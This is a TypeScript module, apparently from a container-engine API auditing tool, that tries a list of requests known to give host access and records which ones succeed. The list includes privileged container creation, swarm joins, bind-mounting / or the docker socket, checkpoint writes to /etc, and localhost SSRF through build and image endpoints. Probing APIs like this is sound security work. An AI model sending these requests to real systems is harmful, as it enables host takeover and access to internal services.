import type { Asked, Search, State } from "./search.ts";

/** Requests that give something by themselves, whatever they say. */
const GIVING: readonly { readonly gain: string; readonly certainty: "yes" | "possible"; readonly asked: Asked }[] = [
  // A plugin is a process of the host with the rights that its own file asks for.
  { gain: "host-root", certainty: "yes", asked: post("/plugins/pull?remote=proof&name=proof", []) },
  {
    gain: "host-root",
    certainty: "yes",
    asked: post("/libpod/containers/create", { image: "proof", privileged: true }),
  },
  // The manager of a swarm decides what runs on its nodes.
  {
    gain: "host-root",
    certainty: "yes",
    asked: post("/swarm/join", { RemoteAddrs: ["192.0.2.1:2377"], JoinToken: "proof", ListenAddr: "0.0.0.0:2377" }),
  },
  { gain: "cred-theft", certainty: "yes", asked: { method: "GET", target: "/swarm" } },
  // The directory of a checkpoint is written and read by the daemon.
  {
    gain: "host-file-write(*)",
    certainty: "yes",
    asked: post("/containers/bystander/checkpoints", { CheckpointID: "proof", CheckpointDir: "/etc" }),
  },
  {
    gain: "localhost-service-access",
    certainty: "yes",
    asked: post("/auth", { serveraddress: "http://127.0.0.1:80" }),
  },
  {
    gain: "localhost-service-access",
    certainty: "yes",
    asked: { method: "GET", target: "/distribution/127.0.0.1:80/proof/json" },
  },
  {
    gain: "localhost-service-access",
    certainty: "yes",
    asked: { method: "POST", target: "/images/create?fromSrc=http%3A%2F%2F127.0.0.1%2Fproof&repo=proof" },
  },
  {
    gain: "localhost-service-access",
    certainty: "yes",
    asked: { method: "POST", target: "/build?remote=http%3A%2F%2F127.0.0.1%2Fproof", streamed: true },
  },
  // Nobody can look into the tunnel; what it opens hangs on the builder's own settings.
  { gain: "host-root", certainty: "possible", asked: { method: "POST", target: "/session" } },
];

function post(target: string, body: object): Asked {
  return { method: "POST", target, body };
}

/** Services of a swarm, whose tasks run on every node. */
const SERVICES: readonly { readonly spec: object; readonly gain: string }[] = [
  { gain: "host-file-write(*)", spec: { Mounts: [{ Type: "bind", Source: "/", Target: "/proof" }] } },
  { gain: "engine-api", spec: { Mounts: [{ Type: "bind", Source: "/var/run/docker.sock", Target: "/proof" }] } },
  { gain: "host-root", spec: { CapabilityAdd: ["ALL"] } },
];

/** Tries what needs no container of one's own. */
export async function tryVerbs(search: Search, start: State): Promise<void> {
  for (const { gain, certainty, asked } of GIVING) {
    const state = await search.attempt(start, asked);
    if (state !== undefined) {
      search.note({ gain, certainty, techniques: [], steps: state.steps });
    }
  }
  for (const { gain, spec } of SERVICES) {
    const ContainerSpec = { Image: "busybox", ...spec };
    const state = await search.attempt(
      start,
      post("/services/create", { Name: "proof", TaskTemplate: { ContainerSpec } }),
    );
    if (state !== undefined) {
      search.note({ gain, certainty: "yes", techniques: [], steps: state.steps });
    }
  }
}
